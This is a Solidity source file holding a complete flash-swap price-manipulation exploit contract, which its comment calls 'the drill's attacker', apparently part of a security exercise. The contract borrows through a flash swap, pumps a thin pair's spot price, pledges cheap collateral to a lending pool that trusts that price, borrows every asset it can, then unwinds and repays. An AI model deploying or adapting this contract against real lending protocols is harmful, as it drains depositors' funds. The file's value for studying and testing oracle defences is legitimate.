// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IToken {
    function balanceOf(address) external view returns (uint256);
    function approve(address, uint256) external returns (bool);
    function transfer(address, uint256) external returns (bool);
}

interface IPair {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
    function swap(uint256, uint256, address, bytes calldata) external;
}

interface IPool {
    function cashOf(address) external view returns (uint256);
    function deposit(address, uint256) external;
    function borrow(address, uint256) external;
}

/// @notice The drill's attacker. A flash swap pays for pushing the spot price that the pool trusts; collateral that is worth little
/// then borrows whatever is asked for, the push is sold back, and the flash swap repaid: all in one transaction.
contract SpotAttack {
    IPool private immutable pool;
    IPair private immutable thin;
    IPair private immutable deep;
    address private immutable collateral;
    address private immutable quote;

    constructor(IPool pool_, IPair thin_, IPair deep_, address collateral_, address quote_) {
        (pool, thin, deep, collateral, quote) = (pool_, thin_, deep_, collateral_, quote_);
    }

    function attack(address[] calldata assets, uint256[] calldata amounts, uint256 push, uint256 pledge) external {
        bool first = deep.token0() == quote;
        deep.swap(first ? push : 0, first ? 0 : push, address(this), abi.encode(assets, amounts, push, pledge));
    }

    function uniswapV2Call(address, uint256, uint256, bytes calldata data) external {
        require(msg.sender == address(deep), "attack: pair only");
        (address[] memory assets, uint256[] memory amounts, uint256 push, uint256 pledge) =
            abi.decode(data, (address[], uint256[], uint256, uint256));
        uint256 bought = sell(quote, push);
        IToken(collateral).approve(address(pool), pledge);
        pool.deposit(collateral, pledge);
        for (uint256 i = 0; i < assets.length; i++) {
            uint256 cash = pool.cashOf(assets[i]);
            // What one asset refuses, the next may give.
            try pool.borrow(assets[i], amounts[i] < cash ? amounts[i] : cash) {} catch {}
        }
        sell(collateral, bought);
        IToken(quote).transfer(address(deep), (push * 1000) / 997 + 1);
    }

    function sell(address token, uint256 amount) private returns (uint256 out) {
        (uint112 reserve0, uint112 reserve1, ) = thin.getReserves();
        bool first = thin.token0() == token;
        (uint256 from, uint256 to) = first ? (uint256(reserve0), uint256(reserve1)) : (uint256(reserve1), uint256(reserve0));
        out = (amount * 997 * to) / (from * 1000 + amount * 997);
        IToken(token).transfer(address(thin), amount);
        thin.swap(first ? 0 : out, first ? out : 0, address(this), "");
    }
}
